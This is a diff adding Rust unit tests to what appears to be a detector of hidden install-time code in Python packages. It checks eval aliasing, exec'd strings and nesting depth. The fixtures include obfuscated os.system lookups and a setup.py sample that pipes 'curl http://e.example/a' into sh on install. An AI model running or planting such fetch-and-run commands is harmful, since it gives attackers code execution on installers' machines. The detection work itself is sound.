@@ -147,3 +147,48 @@ fn pth_runs_only_import_lines() {
     assert_eq!(f.calls[0].trigger, Trigger::Install);
     assert_eq!(f.calls[0].span.line, 2);
 }
+
+#[test]
+fn names_looked_up_by_eval_resolve() {
+    let f = facts(
+        "e = eval('eval')\nc = eval(\"comp\" + \"ile\")\nimport os\ns = eval('os.system')\ne(c('1', '<s>', 'eval'))\ns('id')\n",
+    );
+    let names = call_names(&f);
+    for want in ["builtins.eval", "builtins.compile", "os.system"] {
+        assert!(names.contains(&want), "{want} not in {names:?}");
+    }
+}
+
+#[test]
+fn code_run_from_a_string_is_analysed_at_the_running_call() {
+    let f = analyze(
+        "setup.py",
+        b"x = 1\nexec(\"import os\\nos.system('curl http://e.example/a | sh')\")\n",
+        FileRole::SetupPy,
+    );
+    let system = f
+        .calls
+        .iter()
+        .find(|c| c.name == "os.system")
+        .expect("inner call seen");
+    assert_eq!(system.span.line, 2);
+    assert_eq!(system.trigger, Trigger::Install);
+    assert_eq!(f.embedded.len(), 1);
+    assert!(
+        f.strings
+            .iter()
+            .any(|s| s.value.contains("curl http://e.example"))
+    );
+}
+
+#[test]
+fn code_in_strings_nests_only_so_deep() {
+    // exec("exec(\"exec(...)\")") many layers down: followed to the limit, then dropped.
+    let mut code = String::from("import os; os.system('id')");
+    for _ in 0..8 {
+        code = format!("exec({code:?})");
+    }
+    let f = facts(&code);
+    assert!(f.embedded.len() <= 4);
+    assert!(f.embedded.iter().all(|e| e.depth <= 4));
+}
